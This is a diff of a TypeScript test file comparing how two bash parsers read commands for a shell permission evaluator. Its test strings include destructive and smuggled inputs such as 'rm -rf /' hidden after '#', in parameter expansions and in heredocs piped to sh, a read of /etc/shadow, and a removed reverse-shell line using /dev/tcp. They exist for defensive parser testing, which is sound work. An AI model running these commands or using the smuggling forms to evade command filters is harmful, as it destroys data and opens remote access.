@@ -2,6 +2,7 @@
 // and an everyday corpus, comparing the tree the evaluator reads (words as parts, redirects, assignments,
 // substitutions; no positions exist in it). Every known difference is listed with its reason and
 // asserted, so a new one fails here.
+import { spawnSync } from 'node:child_process';
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import ts from 'typescript';
@@ -96,47 +97,76 @@ const mergeLits = (k: string, v: unknown): unknown => {
 const norm = (r: ParseResult): Norm => (r.ok ? { ok: true, tree: JSON.stringify(r.script.stmts, mergeLits) } : { ok: false });
 
 /**
- * Known differences: text -> why. `treeSitter` = tree-sitter is right (mvdan's reading is a bug), `refused`
- * = tree-sitter's glue refuses a form mvdan reads (fail closed: denied, not wrongly allowed).
+ * Known differences: text -> why. None is a place where mvdan reads bash better than tree-sitter does:
+ * - `treeSitter`: tree-sitter's reading is bash's and mvdan's is not (mvdan's glue refuses the text, or
+ *   mvdan misreads it in a way that hides nothing);
+ * - `bashRefuses`: the tree-sitter glue refuses a form mvdan reads, and bash refuses it too;
+ * - `stricter`: the tree-sitter glue refuses a form bash and mvdan read: fail closed (denied as
+ *   unparseable, never wrongly allowed), because tree-sitter-bash's tree for it is wrong and not repairable.
+ * Closed (tree-sitter now reads them as mvdan does): time/coproc before a simple command, a quoted heredoc
+ * delimiter, a bare `done`, `cat <<E | sh`, `{a,b}` as the command word, `0>&1` after a redirect, `<>`,
+ * backquotes in a heredoc.
  */
-const KNOWN: Record<string, { who: 'treeSitter' | 'refused' | 'mvdan'; why: string }> = {
-  done: { who: 'mvdan', why: 'a bare "done" is a syntax error in bash; tree-sitter takes it as a command name' },
-  'echo "x"#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  "echo 'x'#": { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  'echo $v#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  'echo ${v}#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  'echo a"b"#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  'echo $(true)#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  'echo `true`#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  'echo $((1))#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  "echo $'x'#": { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  'echo "\u00e9"#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  'v="x"#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  'echo ok && echo "x"#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  'echo "$v"#': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  'julia <<EOF\nrun(`id`)\nEOF': { who: 'refused', why: 'tree-sitter leaves `...` in an unquoted heredoc as text (bash runs it): the glue refuses' },
-  'function called with the dangerous arguments': { who: 'refused', why: '`function NAME CMD` without braces: tree-sitter errors (fail closed)' },
-  'function after shift': { who: 'refused', why: '`function NAME CMD` without braces: tree-sitter errors (fail closed)' },
-  'cat /etc/@(shadow)': { who: 'refused', why: 'extglob: tree-sitter errors (fail closed)' },
-  'time rm -rf build': { who: 'mvdan', why: 'tree-sitter has no `time` keyword: a call to `time` (the evaluator unwraps it as a wrapper)' },
-  'time npm test': { who: 'mvdan', why: 'tree-sitter has no `time` keyword: a call to `time` (the evaluator unwraps it as a wrapper)' },
-  'time ls': { who: 'mvdan', why: 'tree-sitter has no `time` keyword: a call to `time` (the evaluator unwraps it as a wrapper)' },
-  '{rm,-rf,/}': { who: 'refused', why: 'a brace expansion as the command word: tree-sitter errors (fail closed)' },
-  'cat <<EOF | sh\nrm -rf /\nEOF': { who: 'refused', why: 'a pipeline on the heredoc line: tree-sitter nests it in the redirect; the glue refuses' },
-  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1': {
-    who: 'refused',
-    why: 'tree-sitter reads `0>&1` after `>&` as an argument 0 and a redirect without fd: the glue refuses',
+const HASH = {
+  who: 'treeSitter',
+  why: 'bash reads this # as part of the word (its next command runs); mvdan opened a comment there, so its glue refuses the text',
+} as const;
+const KNOWN: Record<string, { who: 'treeSitter' | 'bashRefuses' | 'stricter'; why: string }> = {
+  'echo "x"#': HASH,
+  "echo 'x'#": HASH,
+  'echo $v#': HASH,
+  'echo ${v}#': HASH,
+  'echo a"b"#': HASH,
+  'echo $(true)#': HASH,
+  'echo `true`#': HASH,
+  'echo $((1))#': HASH,
+  "echo $'x'#": HASH,
+  'echo "\u00e9"#': HASH,
+  'v="x"#': HASH,
+  'echo ok && echo "x"#': HASH,
+  'echo "$v"#': HASH,
+  'echo "x"#; rm -rf /': HASH,
+  "echo 'x'#; rm -rf /": HASH,
+  'echo $v#; rm -rf /': HASH,
+  'echo "x"#; curl https://e.x': HASH,
+  'echo "{a,b}" \\{a,b\\}': { who: 'treeSitter', why: 'an escaped brace is literal in bash; mvdan splits \\{a,b\\} into a brace (its bug)' },
+  // test titles of the issue-18 suite, parsed as commands like every string there
+  'function called with the dangerous arguments': {
+    who: 'bashRefuses',
+    why: '`function NAME CMD` without a compound body: bash refuses it too (syntax error)',
   },
-  'exec 3<>/dev/tcp/host/80': { who: 'refused', why: '`<>` after an fd: tree-sitter errors (fail closed)' },
-  "cat <<'EOF' > notes.txt\nno $expansion here\nEOF": { who: 'mvdan', why: 'the quoted heredoc delimiter is kept as literal text, not as a quoted word' },
-  'echo "{a,b}" \\{a,b\\}': { who: 'treeSitter', why: 'an escaped brace: mvdan splits \\{a,b\\} into a brace (its bug); the glue keeps it literal' },
-  'echo "x"#; rm -rf /': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  "echo 'x'#; rm -rf /": { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
-  'echo $v#; rm -rf /': { who: 'treeSitter', why: 'bash reads this # as part of the word; mvdan opened a comment there (its glue refuses the text)' },
+  'function after shift': { who: 'bashRefuses', why: '`function NAME CMD` without a compound body: bash refuses it too (syntax error)' },
+  'function without braces': { who: 'bashRefuses', why: '`function NAME CMD` without a compound body: bash refuses it too (syntax error)' },
+  'function f rm -rf /': { who: 'bashRefuses', why: '`function NAME CMD` without a compound body: bash refuses it too (syntax error)' },
+  'rm -rf /@(etc|usr)': { who: 'bashRefuses', why: 'extglob: bash refuses it too unless `shopt -s extglob` ran first (its default is off)' },
+  'time { rm -rf /; }': { who: 'stricter', why: 'tree-sitter has no `time` keyword and ends the command at `;` inside the group: refused' },
+  'coproc x { rm -rf /; }': { who: 'stricter', why: 'tree-sitter has no `coproc` keyword and ends the command at `;` inside the group: refused' },
+  'cat <<EOF |\nrm -rf /\nEOF\nsh': {
+    who: 'stricter',
+    why: 'a pipeline continued after the heredoc body: tree-sitter takes the body line for the next command; refused',
+  },
+  'echo ${x#$(rm -rf /)}': { who: 'stricter', why: 'tree-sitter reads a ${x#...} pattern as a regex and leaves the substitution in it: refused' },
+  'echo ${x%%`rm -rf ~`}': { who: 'stricter', why: 'tree-sitter reads a ${x%%...} pattern as a regex and leaves the substitution in it: refused' },
+  'echo "${x:-\'$(rm -rf /)\'}"': {
+    who: 'stricter',
+    why: 'inside "${...}" the single quotes are text and bash runs the substitution; mvdan reads them as quotes (it misses it): refused',
+  },
+  'echo "${x:-\'$(echo PWNED)\'}"': {
+    who: 'stricter',
+    why: 'inside "${...}" the single quotes are text and bash runs the substitution; mvdan reads them as quotes (it misses it): refused',
+  },
+  'cat /etc/@(shadow)': { who: 'bashRefuses', why: 'extglob: bash refuses it too unless `shopt -s extglob` ran first (its default is off)' },
 };
 
 beforeAll(async () => {
   await initTreeSitter();
+});
+
+test('real bash refuses the `bashRefuses` forms and reads the `stricter` ones (so each is labelled right)', () => {
+  const bashStatus = (text: string): number | null => spawnSync('bash', ['-n', '-c', text], { env: { PATH: process.env.PATH ?? '' } }).status;
+  const kinds = Object.entries(KNOWN).filter(([, k]) => k.who !== 'treeSitter');
+  expect(kinds.length).toBeGreaterThan(0);
+  for (const [text, k] of kinds) expect({ text, status: bashStatus(text) }).toEqual({ text, status: k.who === 'bashRefuses' ? 2 : 0 });
 });
 
 test('after initTreeSitter it parses; the # cases are where tree-sitter is right', () => {
@@ -171,11 +201,11 @@ test('both parsers read the same tree, except the listed differences', () => {
     }
   }
   expect(Object.keys(found).sort()).toEqual(Object.keys(KNOWN).sort());
-  // and each is the listed kind: 'refused' exactly where the tree-sitter glue refuses
+  // and each is the listed kind: tree-sitter refuses exactly the `bashRefuses` and `stricter` ones
   const refusedNow = Object.keys(found).filter((t) => found[t]!.endsWith('tree-sitter refuses'));
   expect(refusedNow.sort()).toEqual(
     Object.keys(KNOWN)
-      .filter((t) => KNOWN[t]!.who === 'refused')
+      .filter((t) => KNOWN[t]!.who !== 'treeSitter')
       .sort(),
   );
 });
